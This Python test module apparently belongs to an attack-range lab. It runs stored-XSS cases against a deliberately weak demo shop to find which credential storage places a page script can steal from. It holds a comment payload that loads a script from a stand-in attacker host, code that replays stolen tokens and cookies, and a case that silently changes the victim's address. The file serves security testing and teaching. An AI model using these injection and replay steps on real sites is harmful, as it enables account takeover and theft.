"""XSS on the weak shop: what a script in the page can steal, for each place where the shop keeps the credential.

A case stores a comment that is a script, or lets the shop load a vendor's script. Alice opens the shop and logs in.
Then a client without a browser sends what the script has stolen, and the status of the answer decides.
The cases of `ride` steal nothing. There the changed address decides.
"""

import json
import time
from collections.abc import Callable
from typing import Any

from attack_range import hosts
from attack_range.attempts import Arrival
from attack_range.cases import Case, Seen, Variant, register
from attack_range.scene import Scene
from attack_range.weak import xss as shop
from attack_range.weak.xss_attacker import VENDOR

# Seconds to wait for the report of a script.
REPORT_PATIENCE = 10
# The state in the report that a case waits for, by the script.
LAST_STATE = {"read": "logged in", VENDOR: "logged in", "patch": "called", "refresh": "refreshed"}
TRIED = {
    "read": "A stored script reads every storage, global and cookie it can reach",
    "patch": "A stored script puts its own fetch in place and waits for the page's next call",
    "ride": "A stored script changes the account from inside the page",
    "refresh": "A stored script calls the refresh endpoint itself",
    VENDOR: "A script that the shop loads from another company reads all it can reach",
}
# Whether the attack succeeds, by the place and the script. A script cannot read an HttpOnly cookie, and a session has
# no refresh endpoint.
EXPECTED = {
    **{place: dict.fromkeys(TRIED, True) for place in ("local-storage", "session-storage", "global")},
    "closure": {"read": False, "patch": True, "ride": True, "refresh": True, VENDOR: False},
    "cookie": {"read": False, "patch": False, "ride": True, "refresh": False, VENDOR: False},
}


def _case(place: str, payload: str) -> Case:
    run = _ride(place) if payload == "ride" else _steal(place, payload)
    tried = f"{TRIED[payload]}; the credential is in {shop.PLACES[place]}"
    return Case(f"xss/{place}/{payload}", Variant.WEAK, tried, EXPECTED.get(place, {}).get(payload, True), run)


def _steal(place: str, payload: str) -> Callable[[Scene], Seen]:
    def run(scene: Scene) -> Seen:
        if payload != VENDOR:
            _comment(scene, place, payload)
        _open_and_log_in(scene.browser(), scene, place, "vendor/" if payload == VENDOR else "")
        return replay(scene, place, await_report(scene, LAST_STATE[payload]))

    return run


def _comment(scene: Scene, place: str, payload: str) -> None:
    source = scene.url(f"/xss/{payload}.js", hosts.ATTACKER)
    data = {"author": "Mallory", "text": f'Lovely mug!<script src="{source}"></script>'}
    answer = scene.ask("POST", scene.url(f"{shop.ROOT}/{place}/comment"), data=data)
    if answer.status_code != 302:
        raise RuntimeError(f"The shop refused the comment: {answer.status_code}.")


def _open_and_log_in(context: Any, scene: Scene, place: str, part: str = "") -> Any:
    page = context.new_page()
    page.goto(scene.url(f"{shop.ROOT}/{place}/{part}"), wait_until="domcontentloaded")
    page.evaluate("document.querySelector('#log-in').click()")
    return page


def await_report(scene: Scene, state: str) -> list[dict[str, str]]:
    """What a script has found, from its report in this state. Raises `RuntimeError` when no report comes, because then
    the script may not have run."""
    end = time.monotonic() + REPORT_PATIENCE
    while time.monotonic() < end:
        reports = [json.loads(text) for text in scene.attempt.loot]
        for report in reversed(reports):
            if report["state"] == state:
                found: list[dict[str, str]] = report["found"]
                return found
        time.sleep(0.02)
    raise RuntimeError("No report of the attacker's script arrived.")


def replay(scene: Scene, place: str, found: list[dict[str, str]]) -> Seen:
    """With a client without a browser, sends each credential that was found, until one is accepted.

    When nothing was found, it sends an invalid token.
    """
    url, status, where = scene.url(f"{shop.ROOT}/{place}/whoami"), 0, ""
    for one in found or [{"where": "nowhere", "name": "", "value": "nothing"}]:
        credential: dict[str, Any] = {"headers": {"Authorization": f"Bearer {one['value']}"}}
        if one["where"] == "document.cookie":
            credential = {"cookies": {one["name"]: one["value"]}}
        status, where = scene.ask("GET", url, **credential).status_code, one["where"]
        if status == 200:
            break
    text = "The script ran and found nothing to send. Nothing was stolen."
    if found:
        text = f"The script sent what it took from {where}. A clean client with that: {status}"
    return Seen(status == 200, text, {"stolen": bool(found), "status": status, "where": where})


def _ride(place: str) -> Callable[[Scene], Seen]:
    def run(scene: Scene) -> Seen:
        _comment(scene, place, "ride")
        _open_and_log_in(scene.browser(), scene, place)
        arrival = await_arrival(scene, "POST", f"{shop.ROOT}/{place}/address")
        address = shop.CUSTOMERS[place, scene.attempt.nonce].address
        text = f"The page's own request was answered {arrival.status}. Alice's parcels now go to: {address}"
        detail = {"stolen": False, "status": arrival.status, "where": "inside the page", "address": address}
        return Seen(arrival.status == 200 and address != shop.HOME, text, detail)

    return run


def await_arrival(scene: Scene, method: str, path: str) -> Arrival:
    """Waits for the first answered request to this path. Raises `RuntimeError` when none comes."""
    end = time.monotonic() + REPORT_PATIENCE
    while time.monotonic() < end:
        for arrival in scene.attempt.arrivals:
            if (arrival.method, arrival.path) == (method, path) and arrival.status:
                return arrival
        time.sleep(0.02)
    raise RuntimeError(f"No request to {path} arrived.")


def _new_tab(scene: Scene) -> Seen:
    context, place = scene.browser(), "session-storage"
    first = _open_and_log_in(context, scene, place)
    first.wait_for_function("document.body.dataset.state === 'logged in'")
    _comment(scene, place, "read")
    context.new_page().goto(scene.url(f"{shop.ROOT}/{place}/"), wait_until="domcontentloaded")
    return replay(scene, place, await_report(scene, "logged out"))


register(_case(place, payload) for place, payloads in EXPECTED.items() for payload in payloads)
register(
    [
        Case(
            "xss/session-storage/new-tab",
            Variant.WEAK,
            "A stored script reads all it can reach, in another tab than the one that logged in; the credential is in "
            "sessionStorage",
            False,
            _new_tab,
        ),
        _case("readable-cookie", "read"),
    ]
)
